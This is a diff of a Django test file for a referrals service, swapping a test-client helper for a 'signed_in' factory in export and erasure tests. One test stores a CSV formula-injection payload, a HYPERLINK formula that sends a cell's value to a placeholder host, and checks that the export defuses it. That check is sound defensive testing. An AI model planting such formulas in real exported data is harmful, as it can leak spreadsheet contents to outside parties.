@@ -10,7 +10,8 @@ import pytest
 from django.core.management import CommandError, call_command
 from django.urls import reverse
 from django.utils import timezone
-from referrals_base import NAME, _out, client, close_case, make_case
+from factories import signed_in
+from referrals_base import NAME, _out, close_case, make_case
 
 from vru.web.accounts.models import AuditLog
 from vru.web.referrals import conf, reports, services
@@ -38,7 +39,7 @@ def test_subject_access_export_and_erasure(w):
     services.record_changes(
         r, "person", {"contact": "07700 900000"}, {"contact": "07700 900123"}, "moved", w.cw_a
     )
-    c = client(w.mgr_a)
+    c = signed_in(w.mgr_a)
     data = c.get(reverse("referrals:export", args=[r.pk, "json"])).json()
     item = data["referrals"][0]
     assert item["person"][0]["name"] == NAME and item["referral"][0]["reference"] == r.reference
@@ -85,7 +86,7 @@ def test_the_export_leaves_out_a_restricted_referral_not_opened_and_audits_each_
     b.restricted = True
     b.save()
     b.allowed_staff.add(w.cw_a2)
-    m = client(w.mgr_a)
+    m = signed_in(w.mgr_a)
     data = m.get(reverse("referrals:export", args=[a.pk, "json"])).json()
     assert [i["referral"][0]["reference"] for i in data["referrals"]] == [a.reference]
     assert "SECRET-RISK" not in json.dumps(data) and data["left_out"].startswith("1 restricted")
@@ -110,5 +111,5 @@ def test_the_csv_export_neutralises_formulas(w):
     r = make_case(w, provider=w.pa)
     r.concerns = '=HYPERLINK("http://x.invalid/?"&B2,"click")'
     r.save()
-    body = client(w.mgr_a).get(reverse("referrals:export", args=[r.pk, "csv"])).content.decode()
+    body = signed_in(w.mgr_a).get(reverse("referrals:export", args=[r.pk, "csv"])).content.decode()
     assert "\"'=HYPERLINK" in body and '"=HYPERLINK' not in body
